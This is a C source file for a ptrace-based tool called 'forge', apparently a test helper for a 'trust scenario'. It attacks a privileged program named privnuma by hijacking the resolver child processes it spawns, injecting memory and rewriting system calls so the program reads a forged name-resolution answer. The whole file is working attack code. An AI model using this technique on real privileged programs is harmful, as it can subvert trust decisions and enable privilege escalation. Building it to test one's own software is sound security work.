/* forge ANSWER PROGRAM [ARGS...]: the name-resolution attack of the trust scenario.
 *
 * Runs PROGRAM (an installed privnuma, which keeps its privilege: it is not traced) and
 * watches for any child process it starts.  A child it can attach to (ptrace: the same
 * user, and Yama allows a descendant) is a resolver running with the caller's ids, like
 * `getent group NAME`: the helper stops it at its next system call, turns that call into
 * write(1, ANSWER) and the one after into exit_group(0), so the parent reads ANSWER as the
 * resolver's answer.  Prints "forge: attached to N process(es)" on stderr and exits with
 * PROGRAM's status.  x86-64 only, like the guest. */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static int forge(pid_t pid, const char *answer) {
  int status;
  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACESYSGOOD) != 0) return 0;
  if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) != 0 || waitpid(pid, &status, __WALL) != pid) return 0;
  /* Run to the next system-call entry: there rip follows a `syscall` instruction. */
  if (ptrace(PTRACE_SYSCALL, pid, 0, 0) != 0) return 0;
  for (;;) {
    if (waitpid(pid, &status, __WALL) != pid || WIFEXITED(status) || WIFSIGNALED(status)) return 1;
    if (WIFSTOPPED(status) && WSTOPSIG(status) == (SIGTRAP | 0x80)) break;
    ptrace(PTRACE_SYSCALL, pid, 0, 0);
  }
  struct user_regs_struct regs;
  ptrace(PTRACE_GETREGS, pid, 0, &regs);
  /* The answer goes below the stack's red zone. */
  size_t length = strlen(answer);
  unsigned long address = (regs.rsp - 4096) & ~7UL;
  for (size_t i = 0; i < length; i += sizeof(long)) {
    long word = 0;
    memcpy(&word, answer + i, length - i < sizeof word ? length - i : sizeof word);
    ptrace(PTRACE_POKEDATA, pid, address + i, word);
  }
  regs.orig_rax = SYS_write;
  regs.rdi = 1;
  regs.rsi = address;
  regs.rdx = length;
  ptrace(PTRACE_SETREGS, pid, 0, &regs);
  ptrace(PTRACE_SYSCALL, pid, 0, 0);
  if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return 1;
  /* At the write's exit: run the `syscall` instruction again, as exit_group(0). */
  ptrace(PTRACE_GETREGS, pid, 0, &regs);
  regs.rip -= 2;
  regs.rax = SYS_exit_group;
  regs.rdi = 0;
  ptrace(PTRACE_SETREGS, pid, 0, &regs);
  ptrace(PTRACE_DETACH, pid, 0, 0);
  return 1;
}

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: forge ANSWER PROGRAM [ARGS...]\n");
    return 2;
  }
  char answer[4096];
  snprintf(answer, sizeof answer, "%s\n", argv[1]);
  pid_t child = fork();
  if (child == 0) {
    execvp(argv[2], argv + 2);
    perror(argv[2]);
    _exit(127);
  }
  char children[64];
  snprintf(children, sizeof children, "/proc/%d/task/%d/children", child, child);
  pid_t seen[64];
  int attached = 0, count = 0, status = 0;
  for (;;) {
    pid_t done = waitpid(child, &status, WNOHANG);
    if (done == child) break;
    FILE *file = fopen(children, "r");
    if (!file) continue;
    int pid;
    while (fscanf(file, "%d", &pid) == 1) {
      int known = 0;
      for (int i = 0; i < count; i++) known |= seen[i] == pid;
      if (known || count == 64) continue;
      seen[count++] = pid;
      attached += forge(pid, answer);
    }
    fclose(file);
  }
  fprintf(stderr, "forge: attached to %d process(es)\n", attached);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}
